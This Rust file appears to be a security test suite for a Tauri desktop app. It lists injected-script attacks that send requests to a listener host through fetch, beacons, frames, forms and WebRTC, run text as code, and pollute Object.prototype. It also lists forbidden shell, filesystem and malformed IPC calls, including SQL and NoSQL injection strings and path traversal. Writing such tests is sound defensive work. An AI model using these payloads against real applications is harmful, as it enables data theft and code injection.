//! The attacks that an injected script would try: to send data out, to run more code, to pollute `Object.prototype`,
//! and to call the shell in ways other than its one command.

use casebook_core::api::COMMANDS;
use serde_json::{Value, json};

/// The goal of an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Goal {
    /// Send a request to the listener.
    Send,
    /// Run text as code, which sets `ran`.
    RunCode,
    /// Change `Object.prototype`, so that `({}).polluted` is set.
    PolluteObject,
}

/// A name, a goal and a script that uses `host` (the listener), `add(tag, attributes)` and `done(result)`.
pub type Attack = (&'static str, Goal, &'static str);

pub const ATTACKS: &[Attack] = &[
    (
        "fetch",
        Goal::Send,
        "fetch(`http://${host}/fetch`).then(() => done('succeeded'), () => done('refused'))",
    ),
    (
        "fetch without CORS",
        Goal::Send,
        "fetch(`http://${host}/blind`, { mode: 'no-cors', method: 'POST', body: 'x' }).then(() => done('succeeded'), () => done('refused'))",
    ),
    (
        "XMLHttpRequest",
        Goal::Send,
        "const x = new XMLHttpRequest(); x.onload = () => done('succeeded'); x.onerror = () => done('refused'); x.open('GET', `http://${host}/xhr`); x.send()",
    ),
    (
        "WebSocket",
        Goal::Send,
        "const w = new WebSocket(`ws://${host}/socket`); w.onopen = () => done('succeeded'); w.onerror = () => done('refused')",
    ),
    (
        "EventSource",
        Goal::Send,
        "const e = new EventSource(`http://${host}/events`); e.onerror = () => done('refused')",
    ),
    (
        "beacon",
        Goal::Send,
        "if (!navigator.sendBeacon(`http://${host}/beacon`, 'x')) done('refused')",
    ),
    (
        "ping of a link",
        Goal::Send,
        "add('a', { href: '#x', ping: `http://${host}/ping` }).click()",
    ),
    (
        "image",
        Goal::Send,
        "const i = new Image(); i.onload = () => done('succeeded'); i.onerror = () => done('refused'); i.src = `http://${host}/image`",
    ),
    (
        "style sheet",
        Goal::Send,
        "add('link', { rel: 'stylesheet', href: `http://${host}/sheet` })",
    ),
    (
        "prefetch",
        Goal::Send,
        "add('link', { rel: 'prefetch', href: `http://${host}/prefetch` })",
    ),
    (
        "preload",
        Goal::Send,
        "add('link', { rel: 'preload', as: 'image', href: `http://${host}/preload` })",
    ),
    (
        "script from outside",
        Goal::Send,
        "add('script', { src: `http://${host}/script` })",
    ),
    (
        "module from outside",
        Goal::Send,
        "import(`http://${host}/script`).then(() => done('succeeded'), () => done('refused'))",
    ),
    (
        "frame",
        Goal::Send,
        "add('iframe', { src: `http://${host}/frame` })",
    ),
    (
        "image in a srcdoc frame",
        Goal::Send,
        "add('iframe', { srcdoc: `<img src=http://${host}/inner>` })",
    ),
    (
        "object",
        Goal::Send,
        "add('object', { data: `http://${host}/object` })",
    ),
    (
        "embed",
        Goal::Send,
        "add('embed', { src: `http://${host}/embed` })",
    ),
    (
        "video",
        Goal::Send,
        "add('video', { src: `http://${host}/video`, preload: 'auto' }).onerror = () => done('refused')",
    ),
    (
        "audio",
        Goal::Send,
        "add('audio', { src: `http://${host}/audio`, preload: 'auto' }).onerror = () => done('refused')",
    ),
    (
        "style background",
        Goal::Send,
        "add('div', { style: `width:9px;height:9px;background:url(http://${host}/background)` })",
    ),
    (
        "font",
        Goal::Send,
        "new FontFace('x', `url(http://${host}/font)`).load().then(() => done('succeeded'), () => done('refused'))",
    ),
    (
        "form",
        Goal::Send,
        "const f = add('form', { action: `http://${host}/form`, method: 'post' }); f.submit()",
    ),
    (
        "worker from outside",
        Goal::Send,
        "const w = new Worker(`http://${host}/script`); w.onerror = () => done('refused')",
    ),
    (
        "service worker",
        Goal::Send,
        "navigator.serviceWorker.register(`http://${host}/script`).then(() => done('succeeded'), () => done('refused'))",
    ),
    (
        "WebRTC",
        Goal::Send,
        "const p = new RTCPeerConnection({ iceServers: [{ urls: `turn:${host}?transport=tcp`, username: 'x', credential: 'x' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
    ),
    (
        "new window",
        Goal::Send,
        "const w = window.open(`http://${host}/window`); if (!w) done('refused')",
    ),
    (
        "link into a new window",
        Goal::Send,
        "add('a', { href: `http://${host}/blank`, target: '_blank' }).click()",
    ),
    (
        "link",
        Goal::Send,
        "add('a', { href: `http://${host}/link` }).click()",
    ),
    (
        "navigation",
        Goal::Send,
        "location.href = `http://${host}/elsewhere`",
    ),
    (
        "replaced location",
        Goal::Send,
        "location.replace(`http://${host}/replaced`)",
    ),
    (
        "refresh",
        Goal::Send,
        "add('meta', { 'http-equiv': 'refresh', content: `0;url=http://${host}/refresh` })",
    ),
    (
        "base element",
        Goal::Send,
        "add('base', { href: `http://${host}/` }); const i = new Image(); i.src = 'based'",
    ),
    ("eval", Goal::RunCode, "eval('window.ran = 1')"),
    (
        "new Function",
        Goal::RunCode,
        "new Function('window.ran = 1')()",
    ),
    (
        "text as a timer",
        Goal::RunCode,
        "setTimeout('window.ran = 1', 0)",
    ),
    (
        "text as an interval",
        Goal::RunCode,
        "setInterval('window.ran = 1', 50)",
    ),
    (
        "inline script",
        Goal::RunCode,
        "add('script', {}, 'window.ran = 1')",
    ),
    (
        "inline module",
        Goal::RunCode,
        "add('script', { type: 'module' }, 'window.ran = 1')",
    ),
    (
        "inline attribute",
        Goal::RunCode,
        "add('button', { onclick: 'window.ran = 1' }).click()",
    ),
    (
        "javascript: link",
        Goal::RunCode,
        "add('a', { href: 'javascript:void(window.ran = 1)' }).click()",
    ),
    (
        "javascript: location",
        Goal::RunCode,
        "location.href = 'javascript:void(window.ran = 1)'",
    ),
    (
        "javascript: frame",
        Goal::RunCode,
        "add('iframe', { src: 'javascript:void(parent.ran = 1)' })",
    ),
    (
        "frame with a script",
        Goal::RunCode,
        "add('iframe', { srcdoc: '<script>parent.ran = 1</script>' })",
    ),
    (
        "blob as a script",
        Goal::RunCode,
        "add('script', { src: URL.createObjectURL(new Blob(['window.ran = 1'], { type: 'text/javascript' })) })",
    ),
    (
        "data as a script",
        Goal::RunCode,
        "add('script', { src: 'data:text/javascript,window.ran=1' })",
    ),
    (
        "data as a module",
        Goal::RunCode,
        "import('data:text/javascript,window.ran=1').then(() => done('succeeded'), () => done('refused'))",
    ),
    (
        "blob as a worker",
        Goal::RunCode,
        "const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => { window.ran = 1 }; w.onerror = () => done('refused')",
    ),
    (
        "fragment with a script",
        Goal::RunCode,
        "document.body.append(document.createRange().createContextualFragment('<script>window.ran = 1</script>'))",
    ),
    (
        "markup with a broken image",
        Goal::RunCode,
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    ),
    (
        "data as a page",
        Goal::RunCode,
        "location.href = 'data:text/html,<script>window.ran=1</script>'",
    ),
    (
        "prototype by name",
        Goal::PolluteObject,
        "Object.prototype.polluted = 1",
    ),
    (
        "prototype by __proto__",
        Goal::PolluteObject,
        "({}).__proto__.polluted = 1",
    ),
    (
        "prototype by definition",
        Goal::PolluteObject,
        "Object.defineProperty(Object.prototype, 'polluted', { value: 1, configurable: true })",
    ),
    (
        "prototype by assignment",
        Goal::PolluteObject,
        "Object.assign(Object.prototype, { polluted: 1 })",
    ),
    (
        "prototype by constructor",
        Goal::PolluteObject,
        "({}).constructor.prototype.polluted = 1",
    ),
];

/// Returns the script of an attack, which ends with `succeeded`, `refused` or `no_effect`.
pub fn script((_, goal, body): &Attack) -> String {
    let (timeout_ms, condition) = match goal {
        Goal::Send => (700, "false"),
        Goal::RunCode => (300, "window.ran === 1"),
        Goal::PolluteObject => (0, "({}).polluted === 1"),
    };
    format!(
        "const [host, finish] = arguments;
        let over = false;
        const done = (result) => {{ if (!over) {{ over = true; finish(result); }} }};
        const add = (tag, attributes, text) => {{
            const element = document.createElement(tag);
            for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
            if (text) element.textContent = text;
            (['link', 'meta', 'base'].includes(tag) ? document.head : document.body).append(element);
            return element;
        }};
        setTimeout(() => done({condition} ? 'succeeded' : 'no_effect'), {timeout_ms});
        document.addEventListener('securitypolicyviolation', () => done({condition} ? 'succeeded' : 'refused'), {{ once: true }});
        try {{ {body} }} catch (error) {{ done('refused'); }}"
    )
}

/// A script that removes what an attack added to the page and returns its state.
pub const CLEAN_UP: &str = "for (const e of document.querySelectorAll('body > :not(#app):not([data-testid]), head > base, \
    head > meta[http-equiv=refresh], head > link[href^=http]')) \
    if (['A','AUDIO','BASE','BUTTON','DIV','EMBED','FORM','IFRAME','IMG','LINK','META','OBJECT','SCRIPT','VIDEO']\
    .includes(e.tagName) && !e.childElementCount) e.remove();
    return [window.ran ?? null, ({}).polluted ?? null, location.href, document.querySelectorAll('iframe').length]";

/// Returns calls of the shell that the real page never makes, as a name and a body. Each must be refused.
pub fn calls() -> Vec<(String, Value)> {
    let plugins = [
        "plugin:window|close",
        "plugin:window|create",
        "plugin:window|set_title",
        "plugin:webview|create_webview_window",
        "plugin:webview|internal_toggle_devtools",
        "plugin:app|version",
        "plugin:path|resolve_directory",
        "plugin:event|emit",
        "plugin:event|emit_to",
        "plugin:dialog|open",
        "plugin:dialog|save",
        "plugin:dialog|message",
        "plugin:fs|read_text_file",
        "plugin:fs|write_file",
        "plugin:shell|execute",
        "plugin:shell|open",
        "plugin:opener|open_path",
        "plugin:http|fetch",
        "plugin:process|exit",
        "plugin:clipboard-manager|read_text",
        "plugin:updater|check",
        "plugin:resources|close",
        "plugin:menu|new",
        "plugin:tray|new",
        "plugin:image|from_path",
        "plugin:__TAURI_CHANNEL__|fetch",
        "core:default",
        "allow-rpc",
        "RPC",
        "rpc ",
        "",
        "__proto__",
    ];
    let mut calls: Vec<(String, Value)> = plugins
        .iter()
        .map(|name| {
            (
                (*name).to_owned(),
                json!({ "path": "/etc/hostname", "label": "main" }),
            )
        })
        .collect();
    let bodies = [
        json!({}),
        json!({ "cmd": 1, "payload": {} }),
        json!({ "cmd": null, "payload": {} }),
        json!({ "cmd": ["boot"], "payload": {} }),
        json!({ "cmd": "boot" }),
        json!({ "cmd": "boot", "payload": null }),
        json!({ "cmd": "boot", "payload": [] }),
        json!({ "cmd": "boot", "payload": "{}" }),
        json!({ "cmd": "", "payload": {} }),
        json!({ "cmd": "BOOT", "payload": {} }),
        json!({ "cmd": "boot ", "payload": {} }),
        json!({ "cmd": "__proto__", "payload": {} }),
        json!({ "cmd": "../boot", "payload": {} }),
        json!({ "cmd": "case_get", "payload": { "case": "' OR 1=1 --" } }),
        json!({ "cmd": "case_get", "payload": { "case": 9_007_199_254_740_993_i64 } }),
        json!({ "cmd": "case_list", "payload": { "query": {}, "after": null, "limit": -1 } }),
        json!({ "cmd": "case_list", "payload": { "query": {}, "after": null, "limit": 100_000 } }),
        json!({ "cmd": "find", "payload": { "text": { "$ne": null } } }),
        json!({ "cmd": "export_folder_set", "payload": { "folder": 5 } }),
        json!({ "cmd": "find", "payload": { "text": "x".repeat(9 << 20) } }),
    ];
    calls.extend(bodies.map(|body| ("rpc".to_owned(), body)));
    // Every command must refuse an unknown field.
    calls.extend(COMMANDS.iter().map(|(cmd, _)| {
        let body = json!({ "cmd": cmd, "payload": { "unexpected": { "__proto__": 1 } } });
        ("rpc".to_owned(), body)
    }));
    calls
}
